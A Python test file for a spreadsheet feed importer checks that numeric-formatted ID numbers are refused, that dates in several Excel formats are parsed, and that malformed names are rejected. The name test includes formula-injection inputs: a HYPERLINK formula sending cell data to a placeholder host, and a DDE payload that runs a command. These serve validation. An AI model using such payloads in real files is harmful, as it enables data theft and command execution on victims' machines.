"""Feed cells as the department typed them (issue 14, part 1): an ID number, 学籍号 or division
code stored as a number is refused with its own reason and never "repaired"; a whole numeric
column gets one notice; dates are read from text, date cells and Excel serial numbers; names
that cannot be names are refused (issue 11, part 3)."""

from __future__ import annotations

from datetime import date

import pyarrow.parquet as pq
import xlsxwriter

from huhang.screening.feeds.services import feed_import
from tests.screening.feedfiles import POLICE, csv_bytes, pid, police_row

KID = date(2015, 6, 1)
NUMBER_REASON = "单元格为数字格式，18位号码已失去精度；请把该列设为文本后重新导出"


def _xlsx(path, header, rows, *, numeric=(), serial=(), date_cells=(), options=None):
    """Rows of text cells, except the columns named: numbers (`numeric`), the day as an Excel
    serial number (`serial`), date cells (`date_cells`)."""
    book = xlsxwriter.Workbook(str(path), options or {})
    sheet = book.add_worksheet()
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    sheet.write_row(0, 0, header)
    epoch = date(1904, 1, 1) if (options or {}).get("date_1904") else date(1899, 12, 30)
    for r, row in enumerate(rows, start=1):
        for c, name in enumerate(header):
            value = row.get(name, "")
            if value == "":
                continue
            if name in numeric and value.isdigit():  # (an ID ending in X stays text)
                sheet.write_number(r, c, int(value))
            elif name in serial:
                sheet.write_number(r, c, (date.fromisoformat(value) - epoch).days)
            elif name in date_cells:
                sheet.write_datetime(r, c, date.fromisoformat(value), day)
            else:
                sheet.write_string(r, c, value)
    book.close()
    return path


def _snapshot_ids(result) -> list[str]:
    from django.conf import settings

    table = pq.read_table(settings.DATA_DIR / result.batch.snapshot)
    return table["id_number"].to_pylist()


def _people(n: int) -> list[dict]:
    return [
        police_row(f"测试{i}", date(2008 + i % 10, 1 + i % 12, 1 + i % 28), seq=i % 400)
        for i in range(n)
    ]


def test_numeric_id_column_accepts_no_row_and_says_so_once(db, data_dir, tmp_path):
    rows = _people(300)
    path = _xlsx(tmp_path / "police.xlsx", POLICE, rows, numeric={"公民身份号码"})
    result = feed_import(by=None, source="police", path=path)
    as_numbers = [r["公民身份号码"] for r in rows if r["公民身份号码"].isdigit()]
    # Every ID a spreadsheet could hold as a number is refused, with the number-format reason;
    # none is accepted with other digits (the ones ending in X stayed text, and are right).
    assert result.batch.rejected == len(as_numbers)
    assert not set(_snapshot_ids(result)) & set(as_numbers)
    assert set(_snapshot_ids(result)) == {r["公民身份号码"] for r in rows} - set(as_numbers)
    assert {m for _r, c, m in result.errors if c == "公民身份号码"} == {NUMBER_REASON}
    assert len([e for e in result.errors if e[1] == "公民身份号码"]) == len(as_numbers)
    assert len(result.batch.notices) == 1
    assert (
        f"“公民身份号码”列的 {len(as_numbers)} 个号码全部存成了数字格式" in result.batch.notices[0]
    )


def test_numeric_id_cells_never_pass_with_another_number(db, data_dir, tmp_path):
    """Of a mixed file, the text cells are imported as written and no numeric one at all."""
    rows = _people(40)
    numeric = [dict(r) for r in rows[:20]]
    path = tmp_path / "police.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, POLICE)
    for r, row in enumerate(rows, start=1):
        for c, name in enumerate(POLICE):
            value = row[name]
            if name == "公民身份号码" and row in numeric and value.isdigit():
                sheet.write_number(r, c, int(value))
            elif value:
                sheet.write_string(r, c, value)
    book.close()
    result = feed_import(by=None, source="police", path=path)
    as_numbers = [r for r in rows[:20] if r["公民身份号码"].isdigit()]
    assert result.batch.accepted == 40 - len(as_numbers)
    assert sorted(_snapshot_ids(result)) == sorted(
        r["公民身份号码"] for r in rows if r not in as_numbers
    )
    assert f"“公民身份号码”列有 {len(as_numbers)} 个单元格是数字格式" in result.batch.notices[0]


def test_scientific_notation_text_is_the_number_format_reason(db, data_dir, tmp_path):
    row = police_row("王小海", KID, 公民身份号码="1.50203201204216E+17")
    path = tmp_path / "police.csv"
    path.write_bytes(csv_bytes(POLICE, [row]))
    result = feed_import(by=None, source="police", path=path)
    assert result.errors == [(2, "公民身份号码", NUMBER_REASON)]


def test_numeric_division_codes_and_student_numbers_are_refused(db, data_dir, tmp_path):
    rows = _people(3)
    path = _xlsx(tmp_path / "police.xlsx", POLICE, rows, numeric={"户籍地行政区划代码"})
    result = feed_import(by=None, source="police", path=path)
    assert result.batch.accepted == 0
    assert {m for _r, _c, m in result.errors} == {
        "单元格为数字格式，号码可能已失去精度或前导零；请把该列设为文本后重新导出"
    }


def test_dates_as_text_date_cells_and_serial_numbers(db, data_dir, tmp_path):
    rows = _people(6)
    for kind, options in (
        ({"serial": {"出生日期"}}, None),
        ({"date_cells": {"出生日期"}}, None),
        ({"serial": {"出生日期"}}, {"date_1904": True}),
        ({}, None),
    ):
        path = _xlsx(tmp_path / "police.xlsx", POLICE, rows, options=options, **kind)
        result = feed_import(by=None, source="police", path=path)
        assert (result.batch.accepted, result.errors) == (6, []), (kind, options)
        result.batch.delete()
    # A CSV written from a sheet whose date column was not formatted: serial numbers as text.
    serials = [
        {**r, "出生日期": str((date.fromisoformat(r["出生日期"]) - date(1899, 12, 30)).days)}
        for r in rows
    ]
    path = tmp_path / "police.csv"
    path.write_bytes(csv_bytes(POLICE, serials))
    assert feed_import(by=None, source="police", path=path).batch.accepted == 6


def test_names_that_cannot_be_names_are_refused(db, data_dir, tmp_path):
    bad = [
        '=HYPERLINK("http://x/?"&C2,"点击")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "王<b>小海</b>",
        "王\x07小海",
    ]
    rows = [police_row(name, KID, seq=i) for i, name in enumerate(bad)]
    rows.append(police_row("买买提·艾力", KID, seq=99))
    path = tmp_path / "police.csv"
    path.write_bytes(csv_bytes(POLICE, rows, "utf-8"))
    result = feed_import(by=None, source="police", path=path)
    assert result.batch.accepted == 1
    reasons = {r: m for r, c, m in result.errors if c == "姓名"}
    assert set(reasons) == {2, 3, 4, 5, 6, 7}
    assert reasons[2].startswith("姓名不能以 =、+、-、@ 开头")
    assert reasons[6] == "姓名中含有网页标记或链接"
    assert reasons[7] == "姓名中含有控制字符"


def test_text_ids_from_a_numeric_looking_csv_are_kept(db, data_dir, tmp_path):
    rows = [police_row("王小海", KID, 公民身份号码=pid(KID))]
    path = tmp_path / "police.csv"
    path.write_bytes(csv_bytes(POLICE, rows))
    result = feed_import(by=None, source="police", path=path)
    assert _snapshot_ids(result) == [pid(KID)]


def test_the_notice_is_at_the_top_of_the_batch_page(db, data_dir, tmp_path, users, login):
    path = _xlsx(tmp_path / "police.xlsx", POLICE, _people(5), numeric={"公民身份号码"})
    batch = feed_import(by=None, source="police", path=path).batch
    body = login(users["bureau"]).get(f"/screening/feeds/{batch.pk}/").content.decode()
    assert body.index('id="notices"') < body.index('id="summary"')
    assert "全部存成了数字格式" in body
